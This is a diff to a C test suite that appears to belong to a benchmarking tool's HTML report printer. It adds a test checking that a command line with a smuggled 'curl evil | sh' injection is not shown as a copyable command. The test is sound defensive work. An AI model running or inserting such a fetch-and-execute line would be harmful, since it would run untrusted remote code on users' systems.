@@ -103,6 +103,20 @@ static void sides(void)
     CHECK(!has("time goes</h2>")); /* nothing says how often it is called */
 }
 
+/* What has a button that copies it is a command of ours. */
+static void commands(void)
+{
+    ob_err err;
+#define GIVEN(command)                                                                             \
+    "{\"run_options\": {\"cmd_args\": {}}, \"start_time\": \"2026-01-01T00:00:00\", "              \
+    "\"command_line\": \"" command "\"}\n"
+    CHECK_INT(print(GIVEN("opbench run -c x.json") RESULT("mm", "a", ""), append, &err), OB_OK);
+    CHECK(has("<code>opbench run -c x.json</code>"));
+    CHECK_INT(print(GIVEN("opbench run; curl evil | sh") RESULT("mm", "a", ""), append, &err),
+              OB_OK);
+    CHECK(!has("curl evil"));
+}
+
 static void failures(void)
 {
     ob_err err;
@@ -220,6 +234,7 @@ int main(void)
     RUN(rows);
     RUN(statements);
     RUN(sides);
+    RUN(commands);
     RUN(failures);
     RUN(harm);
     RUN(long_names);
